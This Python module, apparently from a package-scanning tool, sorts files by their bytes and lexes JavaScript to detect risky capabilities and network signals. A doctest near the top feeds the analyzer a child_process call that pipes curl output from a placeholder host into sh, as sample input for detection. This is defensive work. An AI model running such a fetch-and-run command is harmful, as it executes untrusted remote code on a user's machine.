"""Layer 3: what every installed file *is*, and what its code can do.

:func:`analyze` looks at one file's bytes and returns its :class:`Content`: a :class:`Kind`
decided by the bytes alone (never by the name), the MIME type, line statistics, the native
format of machine code, an extension that lies about the bytes, and :class:`Signal` values
for JavaScript-like files and scripts. :func:`summarize` folds a package's files into a
:class:`Summary`. Everything here is pure: no disk, no network, no subprocess.

Kinds, in the order they are decided:

1. ``binary``: machine code, recognised by its header (ELF; PE, that is ``MZ`` plus a valid
   ``PE\\0\\0`` offset; Mach-O in all four byte orders; fat Mach-O, told apart from Java class
   files by the architecture count as file(1) does; WebAssembly; ``ar`` archives of object
   files). A ``.node`` addon reports the format of its container (elf, pe, macho, ...).
2. ``source`` / ``minified``: bytes that decode as UTF-8 (or UTF-16 with a BOM) with few
   control characters. Text that looks machine-generated (most of it in long lines with
   almost no whitespace and the punctuation of code, or a ``sourceMappingURL`` on long lines)
   is ``minified``; JSON and markup never are.
3. ``data``: the common image, font, archive and document formats, named by a cheap built-in
   sniffer; then legacy 8-bit text is still text; everything else is ``data`` too, and only
   there is libmagic asked for the MIME type, so the plain-text fast path never pays for it.
   libmagic is optional: without it the sniffer answers alone and :func:`magic_notice` says
   so once.

The name is used for two things only: to report an extension that lies about the bytes
(``extension_mismatch``), and to decide which text is JavaScript-like (``.js`` and friends,
a ``node`` shebang, or any name Node would also run as JavaScript whose content looks like
it; never ``.d.ts`` declarations or documents) and which is a script (``.sh``, ``.bat``,
``.cmd``, ``.ps1``, other shebangs).

Signals of JavaScript-like files come from a small lexer (strings, template literals,
comments and regular-expression literals, with the usual "can a regex start here" rule),
whose string literals were identical to tree-sitter-javascript's on 10,122 files (397,331
literals) of real packages while running 27 times faster. Capabilities are looked for in
code, network literals in strings (also inside escaped and base64-encoded strings), script
commands in scripts and in strings. Every pattern that scans a whole file is linear or has
a bounded window, and the lexer carries a budget and memos, so hostile input (a 10 MB line
of unclosed quotes, brackets or escapes) costs linear time.

>>> c = analyze("index.js", b"require('child_process').exec('curl https://x.example | sh')")
>>> c.kind, sorted({s.name for s in c.signals})
(<Kind.SOURCE: 'source'>, ['child-process', 'curl-pipe-shell', 'domain', 'download', 'url'])
"""

from __future__ import annotations

import base64
import binascii
import bisect
import codecs
import enum
import ipaddress
import itertools
import json
import math
import operator
import re
import struct
import threading
import urllib.parse
from array import array
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import Any, ClassVar

import attrs

from tarlens._jsonjs import value_bound

__all__: list[str] = []  # private module; callers import the names they need from here

#: signal categories
CAPABILITY = "capability"
OBFUSCATION = "obfuscation"
NETWORK_LITERAL = "network-literal"
SCRIPT = "script"

#: bound on a signal's value, and on how many distinct values one signal name keeps per file
MAX_VALUE = 200
MAX_VALUES_PER_SIGNAL = 100
#: libmagic reads at most this much of a file (file(1)'s own default is of the same order)
MAGIC_BYTES = 1 << 20


class Kind(enum.StrEnum):
    """What a file is, decided by its bytes."""

    SOURCE = "source"  # readable text or code
    MINIFIED = "minified"  # machine-generated JavaScript/CSS
    BINARY = "binary"  # machine code: ELF, PE, Mach-O, WebAssembly
    DATA = "data"  # other non-text: images, fonts, archives, compiled data


@attrs.frozen
class Signal:
    """Something a rule may care about, found at ``line`` (1-based) of a file."""

    name: str
    line: int
    value: str = ""
    category: str = ""


@attrs.frozen
class Content:
    """What one file is."""

    kind: Kind
    #: from libmagic where it was consulted, else from the sniffer when it is sure, else None
    mime: str | None
    #: the bytes decode as text
    text: bool
    lines: int | None
    longest_line: int | None
    #: "elf", "pe", "macho", "macho-fat", "wasm" or "ar" when kind is BINARY
    binary_format: str | None
    #: e.g. "a .png whose bytes are JavaScript", "an ELF executable named .js"
    extension_mismatch: str | None
    signals: tuple[Signal, ...] = attrs.field(repr=lambda s: f"<{len(s)} signals>")
    #: False when the file is code whose signals were not looked for (``analyze(...,
    #: signals=False)``: the cheap pass over every file); binaries and data have none to find
    scanned: bool = True

    def signal_names(self, category: str | None = None) -> frozenset[str]:
        """The names of this file's signals, optionally of one category."""
        return frozenset(s.name for s in self.signals if category in (None, s.category))


# -- libmagic ------------------------------------------------------------------------------


class _Libmagic:
    """One lazily created ``magic.Magic(mime=True)`` behind a lock (libmagic is not thread-safe)."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.loaded = False
        self.magic: Any = None
        self.notice: str | None = None

    def load(self) -> Any:
        with self.lock:
            if not self.loaded:
                self.loaded = True
                try:
                    import magic  # noqa: PLC0415 - optional C library, loaded on first need

                    self.magic = magic.Magic(mime=True)
                # python-magic fails with ImportError, OSError, AttributeError or its own
                # MagicException depending on what is missing; each means "no libmagic"
                except Exception as exc:  # noqa: BLE001
                    self.magic = None
                    self.notice = (
                        f"libmagic could not be loaded ({type(exc).__name__}: {exc}); file "
                        "types come from tarlens's built-in sniffer, which knows machine code, "
                        "text and common image, font and archive formats but names no others"
                    )
            return self.magic

    def mime(self, data: bytes) -> str | None:
        m = self.load()
        if m is None:
            return None
        with self.lock:
            try:
                result = m.from_buffer(data[:MAGIC_BYTES])
            except Exception:  # noqa: BLE001 - a libmagic failure on odd bytes is "unknown"
                return None
        return str(result) if result else None


_LIBMAGIC = _Libmagic()


def magic_available() -> bool:
    """Whether libmagic could be loaded (it is loaded on the first call)."""
    return _LIBMAGIC.load() is not None


def magic_notice() -> str | None:
    """The one notice to show when libmagic was needed and could not be loaded, else None
    (libmagic is asked only about bytes the sniffer cannot name: a run that never needed it
    neither loads it, 15 ms of start-up, nor lacks anything without it)."""
    return _LIBMAGIC.notice


def _words(words: str) -> frozenset[str]:
    return frozenset(words.split())


# -- sniffing machine code and data --------------------------------------------------------

_MACHO_MAGICS = {
    b"\xfe\xed\xfa\xce": ">",  # MH_MAGIC, 32-bit big-endian
    b"\xce\xfa\xed\xfe": "<",  # MH_CIGAM, 32-bit little-endian
    b"\xfe\xed\xfa\xcf": ">",  # MH_MAGIC_64, big-endian
    b"\xcf\xfa\xed\xfe": "<",  # MH_CIGAM_64, little-endian
}
# cputype values of fat-binary slices (CPU_TYPE_* | CPU_ARCH_ABI64 / ABI64_32)
_MACHO_CPUS = frozenset(
    {1, 6, 7, 10, 11, 12, 13, 14, 15, 16, 18}
    | {0x01000000 | c for c in (7, 12, 18)}
    | {0x02000000 | 12}
)
_ELF_TYPES = {
    1: "application/x-object",
    2: "application/x-executable",
    3: "application/x-sharedlib",
    4: "application/x-coredump",
}
_COFF_MACHINES = frozenset({0x14C, 0x8664, 0xAA64, 0x1C0, 0x1C4, 0x200})


def _machine_code(data: bytes) -> tuple[str, str] | None:
    """``(binary_format, mime)`` when the bytes are machine code."""
    head = data[:4]
    if head == b"\x7fELF" and len(data) >= 20 and data[4] in (1, 2) and data[5] in (1, 2):
        e_type = struct.unpack_from("<H" if data[5] == 1 else ">H", data, 16)[0]
        return "elf", _ELF_TYPES.get(e_type, "application/x-elf")
    if head[:2] == b"MZ" and len(data) >= 0x40:
        e_lfanew = struct.unpack_from("<I", data, 0x3C)[0]
        if 4 <= e_lfanew <= len(data) - 24 and data[e_lfanew : e_lfanew + 4] == b"PE\0\0":
            return "pe", "application/vnd.microsoft.portable-executable"
        return None
    if head in _MACHO_MAGICS and len(data) >= 28:
        filetype = struct.unpack_from(_MACHO_MAGICS[head] + "I", data, 12)[0]
        if 1 <= filetype <= 13:
            return "macho", "application/x-mach-binary"
        return None
    if head in (b"\xca\xfe\xba\xbe", b"\xca\xfe\xba\xbf") and len(data) >= 8:
        # Java class files share 0xcafebabe; there the next word is the class-file version
        # (major >= 45). file(1) reads a count of 1..19 as a fat binary; slices must also
        # name a known CPU.
        nfat = struct.unpack_from(">I", data, 4)[0]
        if 1 <= nfat < 20 and len(data) >= 12:
            cpu = struct.unpack_from(">I", data, 8)[0]
            if cpu in _MACHO_CPUS:
                return "macho-fat", "application/x-mach-binary"
        return None
    if head == b"\0asm" and len(data) >= 8:
        return "wasm", "application/wasm"
    if data.startswith(b"!<arch>\n") and _ar_holds_objects(data):
        return "ar", "application/x-archive"
    return None


def _ar_holds_objects(data: bytes) -> bool:
    """An ``ar`` archive (static or import library) whose members are object files."""
    pos = 8
    for _ in range(16):  # the first members are enough; symbol tables come first
        header = data[pos : pos + 60]
        if len(header) < 60 or header[58:60] != b"`\n":
            return False
        try:
            size = int(header[48:58].decode("ascii").strip() or "0")
        except (UnicodeDecodeError, ValueError):
            return False
        name = header[:16].rstrip()
        body = data[pos + 60 : pos + 60 + min(size, 64)]
        if name not in (b"/", b"//", b"/SYM64/", b"__.SYMDEF", b"__.SYMDEF SORTED") and not (
            name.startswith(b"#1/") and b"SYMDEF" in data[pos + 60 : pos + 60 + 40]
        ):
            if body[:4] == b"\x7fELF" or body[:4] in _MACHO_MAGICS:
                return True
            if body[:4] == b"\0\0\xff\xff":  # short import-library member
                return True
            return len(body) >= 20 and struct.unpack_from("<H", body)[0] in _COFF_MACHINES
        pos += 60 + size + (size & 1)
    return False


# (mime, description, family) for formats the sniffer is sure about
_SNIFF: tuple[tuple[bytes, int, str, str, str], ...] = (
    (b"\x89PNG\r\n\x1a\n", 0, "image/png", "PNG image", "image"),
    (b"\xff\xd8\xff", 0, "image/jpeg", "JPEG image", "image"),
    (b"GIF87a", 0, "image/gif", "GIF image", "image"),
    (b"GIF89a", 0, "image/gif", "GIF image", "image"),
    (b"II*\0", 0, "image/tiff", "TIFF image", "image"),
    (b"MM\0*", 0, "image/tiff", "TIFF image", "image"),
    (b"wOFF", 0, "font/woff", "WOFF font", "font"),
    (b"wOF2", 0, "font/woff2", "WOFF2 font", "font"),
    (b"OTTO", 0, "application/vnd.ms-opentype", "OpenType font", "font"),
    (b"\0\1\0\0\0", 0, "font/sfnt", "TrueType font", "font"),
    (b"true\0", 0, "font/sfnt", "TrueType font", "font"),
    (b"PK\x03\x04", 0, "application/zip", "ZIP archive", "archive"),
    (b"PK\x05\x06", 0, "application/zip", "ZIP archive", "archive"),
    (b"\x1f\x8b", 0, "application/gzip", "gzip data", "archive"),
    (b"BZh", 0, "application/x-bzip2", "bzip2 data", "archive"),
    (b"\xfd7zXZ\0", 0, "application/x-xz", "xz data", "archive"),
    (b"\x28\xb5\x2f\xfd", 0, "application/zstd", "zstd data", "archive"),
    (b"7z\xbc\xaf\x27\x1c", 0, "application/x-7z-compressed", "7-zip archive", "archive"),
    (b"Rar!\x1a\x07", 0, "application/x-rar", "RAR archive", "archive"),
    (b"ustar", 257, "application/x-tar", "tar archive", "archive"),
    (b"!<arch>\n", 0, "application/x-archive", "ar archive", "archive"),
    (b"%PDF-", 0, "application/pdf", "PDF document", "document"),
    (b"SQLite format 3\0", 0, "application/vnd.sqlite3", "SQLite database", "data"),
    (b"OggS", 0, "audio/ogg", "Ogg media", "media"),
    (b"ID3", 0, "audio/mpeg", "MP3 audio", "media"),
    (b"\x1aE\xdf\xa3", 0, "video/webm", "WebM/Matroska media", "media"),
)
_BINARY_DESCRIPTION = {
    "elf": "an ELF executable",
    "pe": "a PE (Windows) executable",
    "macho": "a Mach-O executable",
    "macho-fat": "a universal Mach-O executable",
    "wasm": "a WebAssembly module",
    "ar": "a static library of object files",
}


def _sniff_data(data: bytes) -> tuple[str, str, str] | None:
    """``(mime, description, family)`` for common non-text formats."""
    for magic_bytes, offset, mime, description, family in _SNIFF:
        if data.startswith(magic_bytes, offset):
            return mime, description, family
    if data[:4] == b"RIFF" and len(data) >= 12:
        form = data[8:12]
        if form == b"WEBP":
            return "image/webp", "WebP image", "image"
        if form == b"WAVE":
            return "audio/x-wav", "WAV audio", "media"
    if data[:4] == b"\0\0\1\0" and len(data) >= 22 and 0 < data[4] + 256 * data[5] < 256:
        return "image/vnd.microsoft.icon", "Windows icon", "image"
    if (
        len(data) >= 36
        and data[34:36] == b"LP"
        and data[8:12]
        in (
            b"\x01\0\x02\0",
            b"\x02\0\x02\0",
            b"\x01\0\x01\0",
        )
    ):
        return "application/vnd.ms-fontobject", "Embedded OpenType font", "font"
    if data[:4] == b"\xca\xfe\xba\xbe":  # not fat Mach-O (checked before): a Java class
        return "application/x-java-applet", "Java class file", "data"
    return None


# -- text ----------------------------------------------------------------------------------

# C0 controls other than tab, LF, VT, FF, CR and ESC, plus DEL
_CONTROL_BYTES = bytes(b for b in range(32) if b not in (9, 10, 11, 12, 13, 27)) + b"\x7f"
_CONTROL_CHARS = re.compile("[\x00-\x08\x0e-\x1a\x1c-\x1f\x7f]")
#: text may carry raw control characters (compressed tables in real bundles do: prettier's
#: flow plugin has 4%), but not more than this fraction of them
_MAX_CONTROL_FRACTION = 0.10


def _decode_utf16(data: bytes) -> str | None:
    """The text of bytes that start with a UTF-16 BOM, when they decode and read as text
    (few control characters). UTF-8 text is told by :func:`_text_bytes` and
    :func:`_is_utf8`, without decoding it."""
    try:
        text = data.decode("utf-16")
    except UnicodeDecodeError:
        return None
    controls = len(_CONTROL_CHARS.findall(text))
    if controls > _MAX_CONTROL_FRACTION * len(text):
        return None
    # any byte pairs decode as UTF-16; real text has spaces, digits and punctuation
    return text if sum(1 for c in text if c < "\x80") >= 0.3 * len(text) else None


_UTF16_BOMS = (codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)
_VALIDATE_CHUNK = 1 << 16


def _is_utf8(data: bytes) -> bool:
    """``data`` is valid UTF-8. Decoded piece by piece and thrown away: a whole decode of a
    big bundle with one emoji builds a str of four bytes per character."""
    if data.isascii():
        return True
    decoder = codecs.getincrementaldecoder("utf-8")()
    view = memoryview(data)
    try:
        for start in range(0, len(data), _VALIDATE_CHUNK):
            decoder.decode(view[start : start + _VALIDATE_CHUNK])
        decoder.decode(b"", final=True)
    except UnicodeDecodeError:
        return False
    finally:
        view.release()
    return True


def _head(utf8: bytes) -> str:
    """The text of the first ``_HEAD`` bytes of valid UTF-8 (a character cut at the end is
    left out)."""
    if len(utf8) <= _HEAD:
        return utf8.decode("utf-8")
    return codecs.getincrementaldecoder("utf-8")().decode(utf8[:_HEAD])


def _text_bytes(data: bytes) -> bool:
    """Few enough control bytes for text (``translate`` counts them faster than a regex
    finds the first)."""
    controls = len(data) - len(data.translate(None, _CONTROL_BYTES))
    return controls <= _MAX_CONTROL_FRACTION * len(data)


def _decode_8bit(data: bytes) -> str | None:
    """Legacy 8-bit text (Latin-1 and friends): no NULs, few bytes above 127. Tried only
    on bytes with few controls (:func:`_text_bytes`) that are neither UTF-8 nor a format the
    sniffer knows."""
    if b"\0" in data:
        return None
    high = len(data) - len(data.translate(None, bytes(range(128, 256))))
    if high > 0.3 * len(data):
        return None
    return data.decode("latin-1")


def _text_mime(text: str, utf8: bytes, js_like: bool, *, named_json: bool = False) -> str:
    """``text`` is at least the first 4 KiB of the text, ``utf8`` all of it (BOM-less)."""
    head = text[:512].lstrip("\ufeff \t\r\n")
    lower = head[:256].lower()
    if lower.startswith("<svg") or (lower.startswith("<?xml") and "<svg" in text[:4096]):
        return "image/svg+xml"
    if lower.startswith(("<!doctype html", "<html")):
        return "text/html"
    if lower.startswith("<?xml"):
        return "text/xml"
    if head.startswith("#!"):
        first = head.split("\n", 1)[0]
        if js_like:
            return "text/javascript"
        if "python" in first:
            return "text/x-script.python"
        return "text/x-shellscript"
    if _is_json(utf8, named_json=named_json):
        return "application/json"
    if js_like:
        return "text/javascript"
    return "text/plain"


#: a source map's opening (``{"version":3,``): whatever follows, such text cannot run as
#: JavaScript (a string before a colon is a syntax error there)
_SOURCE_MAP_HEAD = re.compile(rb'\{\s*"version"\s*:\s*3\s*,')
_PARSE_WHOLE = 1 << 16
#: at most this many values (by ``value_bound``) in JSON parsed to tell its MIME type
_PARSE_VALUES = 100_000


def _is_json(utf8: bytes, *, named_json: bool = False) -> bool:
    """Bracketed text that parses as JSON. Over 64 KiB, a ``.json`` file and a source map
    (``{"version":3,``) are taken for the JSON they say they are without parsing every byte:
    Node never runs either as JavaScript (``require`` parses ``.json`` with ``JSON.parse``,
    and a source map's opening is a syntax error in JavaScript), so only the MIME type of a
    broken one would be wrong. They are a third of next's bytes and half of aws-sdk's."""
    stripped = utf8.strip(b" \t\r\n")
    if not stripped or stripped[:1] not in (b"{", b"[") or stripped[-1:] not in (b"}", b"]"):
        return False
    if len(stripped) > _PARSE_WHOLE:
        if named_json or _SOURCE_MAP_HEAD.match(stripped):
            return True
        # parsed, each value costs Python some 100 bytes: 16 MiB of "[[],[],..." would
        # take 500 MiB to find out it is JSON, so text that dense is not taken for JSON
        # (only its MIME type could be wrong: it is still text, classified as such)
        if value_bound(stripped) > _PARSE_VALUES:
            return False
    try:
        json.loads(stripped)
    except (ValueError, RecursionError):
        return False
    return True


@attrs.frozen
class _TextStats:
    lines: int
    longest: int
    minified: bool
    #: the length of every line in bytes (characters too, for ASCII text)
    lengths: Sequence[int] = attrs.field(repr=False, eq=False)


#: a line at least this long is "long" for the minified test (minifiers wrap at ~500)
_LONG_LINE = 250
_IS_LONG = (_LONG_LINE - 1).__lt__
_PUNCTUATION = (b";", b"{", b"}", b"=")
#: text longer than this is split into lines a window at a time
LINE_WINDOW = 1 << 18


def offset_typecode(n: int) -> str:
    """The array type code for offsets into ``n`` characters (one past the end included):
    4-byte items where they fit, which halves what a file of short lines or many literals
    costs."""
    return "I" if n < (1 << 32) - 1 else "q"


def split_windows(text: Any, newline: Any, window: int = LINE_WINDOW) -> Iterator[list[Any]]:
    """``text.split(newline)`` (``text`` bytes or str) in consecutive pieces of about
    ``window`` characters: split whole, a file of short lines holds some 40 bytes a line at
    once (16 MiB of two-byte lines, 300 MiB). Chained, the pieces are the whole split."""
    n = len(text)
    start = 0
    while start + window < n:
        cut = text.rfind(newline, start, start + window)
        if cut < 0:  # one line longer than the window: it is the piece
            cut = text.find(newline, start + window)
            if cut < 0:
                break
        yield text[start:cut].split(newline)
        start = cut + 1
    yield (text[start:] if start else text).split(newline)


def _line_lengths(text: Any, newline: Any) -> Sequence[int]:
    """``[len(line) for line in text.split(newline)]``, split a window at a time; for text
    longer than one window, in an array of 4-byte items."""
    if len(text) <= LINE_WINDOW:
        return list(map(len, text.split(newline)))  # a list: C loops iterate it unboxed
    lengths: array[int] = array(offset_typecode(len(text)))
    for parts in split_windows(text, newline):
        lengths.extend(map(len, parts))
    return lengths


def _text_stats(utf8: bytes, code_like: bool) -> _TextStats:
    """Line counts (lengths in UTF-8 bytes), and whether the text is machine-generated code.

    Minified means: most of the text (65%, or 30% with a ``sourceMappingURL``) sits in long
    lines that have almost no whitespace (< 12%) and the punctuation of code (``;{}=`` at
    least 1.2%). On the corpus of real packages this separates minified JS/CSS (whitespace
    under 6%) from prose and Markdown with long lines (no ``;{}=``), generated declaration
    files and readable code. Every loop here runs in C, and the characters are counted only
    when the long lines are enough of the text for the answer to depend on them.
    """
    lengths = _line_lengths(utf8, b"\n")
    lines = len(lengths) - (0 if lengths[-1] else 1)
    longest = max(lengths)
    total = len(utf8) - (len(lengths) - 1)
    minified = False
    if code_like and total >= 256 and longest >= _LONG_LINE:
        long_chars = sum(itertools.compress(lengths, map(_IS_LONG, lengths)))
        mapped = long_chars >= 0.3 * total and b"sourceMappingURL=" in utf8[-4096:]
        if long_chars >= 0.65 * total or mapped:
            # every line long (one-line bundles): count in place, newlines are neither
            if long_chars == total:
                joined = utf8
            else:
                starts = itertools.accumulate(
                    map(operator.add, lengths, itertools.repeat(1)), initial=0
                )
                joined = b"".join(
                    utf8[start : start + length]
                    for start, length in itertools.compress(
                        zip(starts, lengths, strict=False), map(_IS_LONG, lengths)
                    )
                )
            # counted one character at a time, stopping as soon as the answer is known
            most_space = 0.12 * long_chars
            whitespace = joined.count(b" ")
            if whitespace < most_space:
                whitespace += joined.count(b"\t")
            if whitespace < most_space:
                least, punctuation = 0.012 * long_chars, 0
                for mark in _PUNCTUATION:
                    punctuation += joined.count(mark)
                    if punctuation >= least:
                        minified = True
                        break
    return _TextStats(lines=lines, longest=longest, minified=minified, lengths=lengths)


# -- names ---------------------------------------------------------------------------------

_JS_EXTENSIONS = (".js", ".cjs", ".mjs", ".jsx", ".ts", ".tsx", ".mts", ".cts")
_DECLARATION_EXTENSIONS = (".d.ts", ".d.mts", ".d.cts")
_SCRIPT_EXTENSIONS = (".sh", ".bash", ".zsh", ".ksh", ".bat", ".cmd", ".ps1", ".psm1")
# text formats that are never run as JavaScript, or are another language: no content test
_OTHER_TEXT_EXTENSIONS = _words(
    ".md .markdown .mdx .rst .adoc .json .jsonc .json5 .map .html .htm .xhtml .xml .svg .css "
    ".scss .sass .less .styl .yml .yaml .toml .ini .cfg .conf .csv .tsv .lock .c .h .cc .cpp "
    ".cxx .hh .hpp .hxx .m .mm .py .pyi .rb .go .rs .java .kt .cs .swift .php .pl .pm .lua .gyp "
    ".gypi .gn .cmake .mk .s .asm .proto .graphql .gql .vue .svelte .astro .hbs .handlebars "
    ".ejs .pug .erb .tex .po .pot .patch .diff .flow .coffee .elm .sql"
)
_DATA_FAMILIES = {
    "image": ".png .jpg .jpeg .gif .webp .bmp .ico .icns .cur .tif .tiff .avif .heic",
    "font": ".woff .woff2 .ttf .otf .eot",
    "archive": ".zip .gz .tgz .tar .bz2 .xz .7z .rar .zst .br .jar .nupkg .whl",
    "media": ".mp3 .mp4 .m4a .wav .ogg .oga .webm .mov .avi .flac",
    "document": ".pdf",
    "data": ".sqlite .db .class",
}
_DATA_EXTENSION_FAMILY = {e: fam for fam, exts in _DATA_FAMILIES.items() for e in exts.split()}
_NATIVE_EXTENSIONS = {
    ".node": frozenset({"elf", "pe", "macho", "macho-fat"}),
    ".so": frozenset({"elf"}),
    ".dylib": frozenset({"macho", "macho-fat"}),
    ".dll": frozenset({"pe"}),
    ".exe": frozenset({"pe"}),
    ".sys": frozenset({"pe"}),
    ".wasm": frozenset({"wasm"}),
    ".a": frozenset({"ar"}),
    ".lib": frozenset({"ar"}),
    ".o": frozenset({"elf", "macho"}),
    ".obj": frozenset({"pe"}),
}
_TEXT_EXTENSIONS = (
    frozenset(_JS_EXTENSIONS) | frozenset(_SCRIPT_EXTENSIONS) | _OTHER_TEXT_EXTENSIONS
) | {".txt", ".d.ts"}


def _extension(path: str) -> str:
    """The lower-cased extension (``.d.ts`` and friends whole)."""
    name = path.rsplit("/", 1)[-1].lower()
    for compound in _DECLARATION_EXTENSIONS:
        if name.endswith(compound) and len(name) > len(compound):
            return compound
    dot = name.rfind(".")
    return name[dot:] if dot > 0 else ""


def _shebang(text: str) -> str | None:
    if not text.startswith("#!"):
        return None
    return text[2:200].split("\n", 1)[0].strip()


_JS_MARKERS = re.compile(
    r"\bfunction\s*[\w$]*\s*\(|=>|\brequire\s*\(|\bmodule\.exports\b|\bexports\.[\w$]"
    r"|\b(?:var|let|const)\s+[\w$\[{]|===|!==|\btypeof\s|\bimport\s*[\w{*'\"(]|\bexport\s+"
    r"(?:default|const|function|class|\{)"
)


#: how much of a text the name tests look at (the content test for JavaScript reads 1 MiB)
_HEAD = 1 << 20


_JS_MARKER_WORDS = (
    "function",
    "=>",
    "require",
    "exports.",
    "var",
    "let",
    "const",
    "===",
    "!==",
    "typeof",
    "import",
    "export",
)


def _looks_like_js(text: str) -> bool:
    """Content test for text whose name does not say: JavaScript markers of at least two
    sorts, three or more, and dense (two per KiB; prose that shows code examples, like man
    pages and notices, has fewer)."""
    end = min(len(text), _HEAD)
    enough = max(3, -(-end // 512))  # markers needed: three, and two per KiB
    # every marker holds one of these words, each occurrence inside at most one marker: when
    # they are too few (prose, man pages), the regex need not run
    if sum(text.count(word, 0, end) for word in _JS_MARKER_WORDS) < enough:
        return False
    sorts: set[str] = set()
    for count, m in enumerate(_JS_MARKERS.finditer(text, 0, end), 1):
        if len(sorts) < 2:
            sorts.add(m.group()[:3])
        if count >= enough and len(sorts) >= 2:
            return True  # the answer cannot change: stop reading
    return False


def _classify_name(ext: str, text: str) -> tuple[bool, bool]:
    """``(js_like, script)`` for a text file whose extension is ``ext``."""
    interpreter = _shebang(text)
    if interpreter is not None:
        is_node = re.search(r"(?:^|[/\s])(?:node|nodejs|deno|bun|tsx|ts-node)(?:\s|$)", interpreter)
        return (True, False) if is_node else (False, True)
    if ext in _DECLARATION_EXTENSIONS:
        return False, False  # declarations only: nothing in them runs
    if ext in _JS_EXTENSIONS:
        return True, False
    if ext in _SCRIPT_EXTENSIONS:
        return False, True
    if ext in _OTHER_TEXT_EXTENSIONS:
        return False, False
    # Node's CommonJS loader runs any other extension as JavaScript: decide by content
    return _looks_like_js(text), False


def _mismatch(
    ext: str,
    kind: Kind,
    binary_format: str | None,
    data_sniff: tuple[str, str, str] | None,
    js_like: bool,
    script: bool,
) -> str | None:
    if not ext:
        return None
    shown = ext if len(ext) <= 16 else ext[:16] + "…"
    if kind is Kind.BINARY:
        assert binary_format is not None
        expected = _NATIVE_EXTENSIONS.get(ext)
        if expected is not None:
            if binary_format in expected:
                return None
        elif ext not in _TEXT_EXTENSIONS and ext not in _DATA_EXTENSION_FAMILY:
            return None  # .bin, .dat, an unknown name: machine code may be anything
        return f"{_BINARY_DESCRIPTION[binary_format]} named {shown}"
    if kind is Kind.DATA:
        if ext in _NATIVE_EXTENSIONS:
            what = data_sniff[1] if data_sniff else "data that is not machine code"
            return f"a {shown} whose bytes are {_article(what)}"
        if ext in _TEXT_EXTENSIONS:
            what = data_sniff[1] if data_sniff else "not text"
            return f"a {shown} whose bytes are {_article(what)}"
        family = _DATA_EXTENSION_FAMILY.get(ext)
        if family is not None and data_sniff is not None and data_sniff[2] != family:
            return f"a {shown} whose bytes are {_article(data_sniff[1])}"
        return None
    # text
    if ext in _DATA_EXTENSION_FAMILY or ext in _NATIVE_EXTENSIONS:
        if ext == ".svg":
            return None
        what = "JavaScript" if js_like else "a script" if script else "text"
        return f"a {shown} whose bytes are {what}"
    return None


def _article(what: str) -> str:
    if what in ("not text",) or what.startswith(("data ", "a ", "an ")):
        return what
    return ("an " if what[0].lower() in "aeiou" else "a ") + what


# -- the JavaScript lexer ------------------------------------------------------------------

_STRING, _TEMPLATE, _COMMENT, _REGEX = 0, 1, 2, 3
_KEYWORDS_BEFORE_EXPRESSION = _words(
    "return typeof instanceof in of new delete void throw case do else yield await"
)
_STOP = re.compile(r"[\"'`/]")
_STOP_IN_TEMPLATE = re.compile(r"[\"'`/{}]")
_STRING_BODY = {
    '"': re.compile(r'"(?:[^"\\\n\r]++|\\(?:\r\n|[\s\S]))*+"'),
    "'": re.compile(r"'(?:[^'\\\n\r]++|\\(?:\r\n|[\s\S]))*+'"),
}
_TEMPLATE_CHUNK = re.compile(r"(?:[^`\\$]++|\\[\s\S]|\$(?!\{))*+")
_REGEX_LITERAL = re.compile(
    r"/(?![*/])(?:[^/\\\[\n\r]++|\\[^\n\r]|\[(?:[^\]\\\n\r]++|\\[^\n\r])*+\])++/[a-zA-Z]*+"
)
_SPACE = frozenset(" \t\n\r\v\f\u00a0\ufeff\u2028\u2029")


@attrs.frozen
class _Lexed:
    # arrays, not lists: 4 bytes an offset instead of 40 (a big bundle has 10^5 literals)
    starts: array[int]
    ends: array[int]
    kinds: array[int]

    def at(self, offset: int) -> int:
        """The kind of literal or comment covering ``offset``, or -1 in code."""
        i = bisect.bisect_right(self.starts, offset) - 1
        if i >= 0 and offset < self.ends[i]:
            return self.kinds[i]
        return -1


def _regex_allowed(text: str, i: int) -> bool:
    j = i - 1
    while j >= 0 and text[j] in _SPACE:
        j -= 1
    if j < 0:
        return True
    c = text[j]
    if c in ")]\"'`":
        return False
    if c.isalnum() or c in "_$":
        k = j
        while k >= 0 and (text[k].isalnum() or text[k] in "_$"):
            k -= 1
            if j - k > 10:
                return False
        return text[k + 1 : j + 1] in _KEYWORDS_BEFORE_EXPRESSION
    return True


def _lex(text: str) -> _Lexed:
    """Spans of string literals, template-literal text, comments and regex literals."""
    starts: array[int] = array(offset_typecode(len(text)))
    ends: array[int] = array(offset_typecode(len(text)))
    kinds: array[int] = array("b")

    def add(s: int, e: int, k: int) -> None:
        starts.append(s)
        ends.append(e)
        kinds.append(k)

    n = len(text)
    pos = 0
    if text.startswith("#!"):
        e = text.find("\n")
        pos = n if e < 0 else e
        add(0, pos, _COMMENT)
    depth: list[int] = []  # brace depth inside each open ${ } of a template literal
    # A quote with no closing quote before the end of its line is stray; remember the line
    # end so that the same quote character is not retried on that line (keeps it linear).
    stray_until = {'"': -1, "'": -1}
    regex_budget = 4 * n + 4096  # characters that failed regex-literal attempts may scan
    line_end = -1
    while True:
        m = (_STOP_IN_TEMPLATE if depth else _STOP).search(text, pos)
        if m is None:
            break
        i = m.start()
        c = text[i]
        if c in "\"'":
            if i < stray_until[c]:
                pos = i + 1
                continue
            sm = _STRING_BODY[c].match(text, i)
            if sm is None:
                e = text.find("\n", i)
                stray_until[c] = n if e < 0 else e
                pos = i + 1
                continue
            pos = sm.end()
            add(i, pos, _STRING)
        elif c == "/":
            nxt = text[i + 1 : i + 2]
            if nxt == "/":
                e = text.find("\n", i)
                pos = n if e < 0 else e
                add(i, pos, _COMMENT)
            elif nxt == "*":
                e = text.find("*/", i + 2)
                pos = n if e < 0 else e + 2
                add(i, pos, _COMMENT)
            elif regex_budget > 0 and _regex_allowed(text, i):
                rm = _REGEX_LITERAL.match(text, i)
                if rm is not None:
                    pos = rm.end()
                    add(i, pos, _REGEX)
                else:
                    # a failed attempt scanned to the end of the line
                    if line_end < i:
                        line_end = text.find("\n", i)
                        if line_end < 0:
                            line_end = n
                    regex_budget -= line_end - i
                    pos = i + 1
            else:
                pos = i + 1
        elif c == "`":
            pos = _template_chunk(text, i + 1, add, depth)
        elif c == "{":
            depth[-1] += 1
            pos = i + 1
        elif depth[-1] == 0:  # "}" closing ${ }
            depth.pop()
            pos = _template_chunk(text, i + 1, add, depth)
        else:
            depth[-1] -= 1
            pos = i + 1
    return _Lexed(starts, ends, kinds)


